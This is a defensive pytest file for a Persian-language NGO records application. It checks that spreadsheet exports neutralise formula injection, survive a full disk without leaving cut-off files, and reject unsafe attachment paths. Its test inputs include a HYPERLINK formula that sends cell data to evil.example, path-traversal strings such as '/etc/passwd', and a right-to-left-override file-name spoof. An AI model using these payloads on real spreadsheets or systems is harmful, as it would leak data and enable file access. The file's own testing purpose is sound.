"""Files the desk writes for the office: whole or not at all, never a live formula, never cut silently.

Issue 7, findings 4 and 5: a full disk left a cut-off CSV under the real name; exported .xlsx files held
live formulas and CSV exports wrote a leading «=» «+» «-» «@» as it was. Every export kind is covered:
the four exchange sheets (.xlsx and .csv), the template, the error workbook of bad rows and the audit
export (PDFs: tests/reports/test_pdf_write.py).
"""

from __future__ import annotations

import csv
import errno
import os
import zipfile
from pathlib import Path

import openpyxl
import pytest
from disk_faults import files_in, fill_disk_after
from ngo_sheets import EVENT_HEADERS, HEADERS, LETTER_HEADERS, LICENCE_HEADERS, good_row, nid
from sqlalchemy import select, update

from ostandari_desk.errors import UserError
from ostandari_desk.services import audit_export, files, transfer
from ostandari_desk.services.audit import AuditFilter
from ostandari_desk.services.transfer import centres as centre_sheet
from ostandari_desk.services.transfer import inspections as visit_sheet
from ostandari_desk.services.transfer import memoranda as memo_sheet
from ostandari_desk.services.transfer import offices as office_sheet
from ostandari_desk.services.transfer import payments as payment_sheet
from ostandari_desk.services.transfer import progress as progress_sheet
from ostandari_desk.services.transfer.sheet_writer import FORMULA_STARTS, MAX_XLSX_CELL, neutralise
from ostandari_desk.store.models import Ngo

CENTRE_HEADERS = [c.header for c in centre_sheet.COLUMNS]
VISIT_HEADERS = [c.header for c in visit_sheet.COLUMNS]
MEMO_HEADERS = [c.header for c in memo_sheet.COLUMNS]
OFFICE_HEADERS = [c.header for c in office_sheet.COLUMNS]
PROGRESS_HEADERS = [c.header for c in progress_sheet.COLUMNS]
PAYMENT_HEADERS = [c.header for c in payment_sheet.COLUMNS]
INJECT = '=HYPERLINK("http://evil.example/?d="&A2,"پیوند")'
KINDS = (
    "ngos",
    "licences",
    "events",
    "letters",
    "centres",
    "inspections",
    "memoranda",
    "progress",
    "payments",
    "offices",
)


def write_csv(path: Path, rows) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


@pytest.fixture
def seeded(desk, tmp_path):
    """Records of every kind whose text begins like a formula, imported from CSV files."""
    inbox = tmp_path / "in"
    inbox.mkdir()
    national_id = nid()
    ngo_rows = [good_row(n) for n in range(1, 30)]
    ngo_rows[0][0] = national_id
    ngo_rows[0][10] = INJECT  # the address
    ngo_rows[1][7] = "+98 مدیر"  # the CEO
    ngo_rows[2][1] = "@انجمن نمونه"
    sheets = {
        "ngos": [HEADERS, *ngo_rows],
        "licences": [
            LICENCE_HEADERS,
            [national_id, "صدور پروانه", "1398/03/01", "ق-۱۲", "1402/03/01", "-12", INJECT],
        ],
        "events": [
            EVENT_HEADERS,
            [INJECT, "همایش", "1401/6/9", "", "استان", "اداره کل", "250", "", national_id],
        ],
        "letters": [
            LETTER_HEADERS,
            ["۱۲۳/ص", "1401/6/9", "صادره", "سایر", "+98 دادگستری", INJECT, national_id, ""],
        ],
        "centres": [
            CENTRE_HEADERS,
            [
                "KSH-1",
                "کشتارگاه صنعتی آبیک",
                "کشتارگاه",
                "آبیک",
                "دامپزشکی",
                "",
                "-بهره‌بردار",
                INJECT,
                "",
                "",
            ],
        ],
        "inspections": [
            VISIT_HEADERS,
            ["KSH-1", "1401/6/9", "10:00", "سرزده", "@بازرس", "مطلوب", "90", INJECT, "", "", ""],
        ],
        # the offices first: a memorandum names its office (a payment's only text is its memorandum's number)
        "offices": [
            OFFICE_HEADERS,
            [INJECT, "آبیک", "-محله یک، محله دو", national_id, "1401/6/9", "1000", ""],
        ],
        "memoranda": [
            MEMO_HEADERS,
            ["-12/ت", INJECT, "فرمانداری", "آبیک", "", INJECT, "1000000", "1401/6/9", "", "", ""],
        ],
        "progress": [PROGRESS_HEADERS, ["-12/ت", "1401/7/1", "50", INJECT]],
        "payments": [PAYMENT_HEADERS, ["-12/ت", "1401/7/2", "1", "500000"]],
    }
    for kind, rows in sheets.items():
        report = transfer.import_file(desk.uow, kind, write_csv(inbox / f"{kind}.csv", rows))
        assert report.ok and report.stored, (kind, report.errors)
    return desk


def xlsx_cells(path: Path) -> list:
    with zipfile.ZipFile(path) as book:
        sheet_xml = "".join(book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element at all
    sheet = openpyxl.load_workbook(path).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells]


def csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


# --- finding 5: formula injection ---------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_no_export_kind_writes_a_live_formula(seeded, tmp_path, kind):
    xlsx = tmp_path / f"{kind}.xlsx"
    transfer.export_file(seeded.uow, kind, xlsx)
    values = xlsx_cells(xlsx)
    leading = [v for v in values if isinstance(v, str) and v.startswith(FORMULA_STARTS)]
    assert leading  # the text is kept as it was, typed as text
    if kind not in ("licences", "payments"):
        assert INJECT in values or any(v.endswith(INJECT) for v in leading)

    out = tmp_path / f"{kind}.csv"
    transfer.export_file(seeded.uow, kind, out)
    cells = csv_cells(out)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert any(c.startswith("'") and c[1:].startswith(FORMULA_STARTS) for c in cells)
    # and the export still re-imports as the same records
    again = transfer.import_file(seeded.uow, kind, out)
    assert again.ok and again.added == 0 and again.unchanged > 0, again.errors


def test_the_template_and_the_error_workbook_hold_no_formula(desk, tmp_path):
    for suffix in (".xlsx", ".csv"):
        path = transfer.template("ngos", tmp_path / f"t{suffix}")
        assert (xlsx_cells(path) if suffix == ".xlsx" else csv_cells(path)) == HEADERS
    bad = good_row(1)
    bad[0] = "123"  # not a national ID
    bad[10] = INJECT
    source = write_csv(tmp_path / "bad.csv", [HEADERS, good_row(2), bad])
    report = transfer.import_file(desk.uow, "ngos", source, skip_bad=True)
    assert report.bad_rows == 1 and report.bad_rows_path is not None
    assert INJECT in xlsx_cells(report.bad_rows_path)


def test_neutralise_is_one_function_for_every_export():
    assert audit_export.neutralise is neutralise
    assert [neutralise(v) for v in ("=1", "+1", "-1", "@x", "\tx", "\rx", "a=1", None, 5)] == [
        "'=1",
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "'\rx",
        "a=1",
        "",
        "5",
    ]


# --- finding 6: text over 32,767 characters -------------------------------------------------------


def test_text_too_long_for_a_cell_refuses_the_xlsx_export_by_name(seeded, tmp_path):
    national_id = seeded_first_id(seeded)
    long_address = ("خیابان " * 6000).strip()  # 41,999 characters: over Excel's 32,767
    with seeded.uow.writing() as uow:
        uow.s.execute(update(Ngo).where(Ngo.national_id == national_id).values(address=long_address))
        uow.commit()
    out = tmp_path / "ngos.xlsx"
    out.write_bytes(b"the previous export")
    with pytest.raises(UserError) as info:
        transfer.export_file(seeded.uow, "ngos", out)
    message = info.value.message
    assert "«نشانی»" in message and national_id in message and "۳۲٬۷۶۷" in message and ".csv" in message
    assert out.read_bytes() == b"the previous export"
    # CSV keeps the text whole
    csv_out = tmp_path / "ngos.csv"
    transfer.export_file(seeded.uow, "ngos", csv_out)
    assert long_address in csv_cells(csv_out)
    assert len(long_address) > MAX_XLSX_CELL


def seeded_first_id(desk) -> str:
    with desk.uow as uow:
        return uow.s.execute(select(Ngo.national_id).where(Ngo.address.startswith("="))).scalar_one()


# --- finding 4: a full disk half-way leaves the old file, never a cut-off one ---------------------


def _exports(uow, kind: str, suffix: str):
    if kind == "template":
        return lambda path: transfer.template("ngos", path)
    if kind == "audit":
        return lambda path: audit_export.export_audit(uow, AuditFilter(), path)
    return lambda path: transfer.export_file(uow, kind, path)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
@pytest.mark.parametrize("kind", [*KINDS, "template", "audit"])
def test_a_full_disk_leaves_the_previous_file(seeded, tmp_path, monkeypatch, kind, suffix):
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    target = out_dir / f"{kind}{suffix}"
    target.write_bytes(b"the previous export")
    before = files_in(out_dir)
    fill_disk_after(monkeypatch, out_dir, budget=600 if kind == "ngos" else 40)
    with pytest.raises(UserError, match="جای خالی دیسک"):
        _exports(seeded.uow, kind, suffix)(target)
    monkeypatch.undo()
    assert files_in(out_dir) == before  # the old bytes, and no temporary file left over


def test_a_full_disk_leaves_no_cut_off_file_where_there_was_none(seeded, tmp_path, monkeypatch):
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    fill_disk_after(monkeypatch, out_dir, budget=600)
    with pytest.raises((UserError, OSError)):  # the old code let the OSError through, a cut-off file behind
        transfer.export_file(seeded.uow, "ngos", out_dir / "ngos.csv")
    monkeypatch.undo()
    assert files_in(out_dir) == {}


def test_the_error_workbook_is_whole_or_absent(desk, tmp_path, monkeypatch):
    rows = [good_row(n) for n in range(1, 40)]
    for row in rows[::2]:
        row[0] = "123"
    source = write_csv(tmp_path / "in.csv", [HEADERS, *rows])
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    fill_disk_after(monkeypatch, out_dir, budget=600)
    with pytest.raises(UserError, match="جای خالی دیسک"):
        transfer.import_file(desk.uow, "ngos", source, skip_bad=True, bad_rows_path=out_dir / "bad.xlsx")
    monkeypatch.undo()
    assert files_in(out_dir) == {}


# --- the atomic writer itself -----------------------------------------------------------------------


def test_atomic_path_renames_only_a_whole_file(tmp_path):
    target = tmp_path / "a.txt"
    target.write_text("old", encoding="utf-8")
    with pytest.raises(RuntimeError), files.atomic_path(target) as temp:
        assert temp.parent == tmp_path and temp.name.startswith(".a.txt.") and temp.suffix == ".tmp"
        temp.write_text("half", encoding="utf-8")
        raise RuntimeError("the writer fails")
    assert files_in(tmp_path) == {"a.txt": b"old"}
    with files.atomic_path(target) as temp:
        temp.write_text("new", encoding="utf-8")
    assert files_in(tmp_path) == {"a.txt": b"new"}


def test_atomic_files_get_the_usual_permissions(tmp_path):
    if os.name == "nt":
        pytest.skip("POSIX modes")
    umask = os.umask(0o022)
    os.umask(umask)
    target = files.write_bytes(tmp_path / "a.pdf", b"%PDF")
    assert target.stat().st_mode & 0o777 == 0o666 & ~umask  # not mkstemp's 0600


def test_write_bytes_under_a_full_disk(tmp_path, monkeypatch):
    target = tmp_path / "report.pdf"
    target.write_bytes(b"old pdf")
    fill_disk_after(monkeypatch, tmp_path, budget=10)
    with pytest.raises(OSError) as info:
        files.write_bytes(target, b"%PDF-1.4 " + b"x" * 5000)
    monkeypatch.undo()
    assert info.value.errno == errno.ENOSPC
    assert files_in(tmp_path) == {"report.pdf": b"old pdf"}
    assert "جای خالی دیسک" in files.unwritable(target, info.value).message


def test_unwritable_says_what_to_do():
    assert "اکسل" in files.unwritable("a.xlsx", PermissionError(13, "denied")).message
    assert "فقط‌خواندنی" in files.unwritable("a.xlsx", OSError(errno.EROFS, "ro")).message


# --- safe names and paths (attachments) -------------------------------------------------------------


@pytest.mark.parametrize(
    ("relative", "ok"),
    [
        ("ab/abcdef.pdf", True),
        ("../../x", False),
        ("ab/../../x", False),
        ("..", False),
        ("", False),
        ("/etc/passwd", False),
        ("..\\..\\x", False),
        ("ab/../cd.pdf", True),
    ],
)
def test_inside_refuses_everything_outside_the_folder(tmp_path, relative, ok):
    root = tmp_path / "attachments"
    root.mkdir()
    found = files.inside(root, relative)
    assert (found is not None) == ok
    if ok:
        assert found.resolve().is_relative_to(root.resolve())


def test_inside_refuses_a_symlink_that_leads_out(tmp_path):
    root = tmp_path / "attachments"
    root.mkdir()
    (tmp_path / "secret").write_text("x", encoding="utf-8")
    try:
        (root / "link").symlink_to(tmp_path / "secret")
    except OSError:
        pytest.skip("no symlinks here")
    assert files.inside(root, "link") is None


def test_safe_file_name_drops_bidi_controls_and_folders():
    controls = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    assert files.safe_file_name("evil.\u202efdp.exe") == "evil.fdp.exe"
    assert files.safe_file_name(f"نامه{controls}.pdf") == "نامه.pdf"
    assert files.safe_file_name("../../x.pdf") == "x.pdf"
    assert files.safe_file_name("a\x00b\n.pdf") == "ab.pdf"
    assert files.safe_file_name("\u202e") == "پیوست"
    assert set(files.BIDI_CONTROLS) == set(controls)
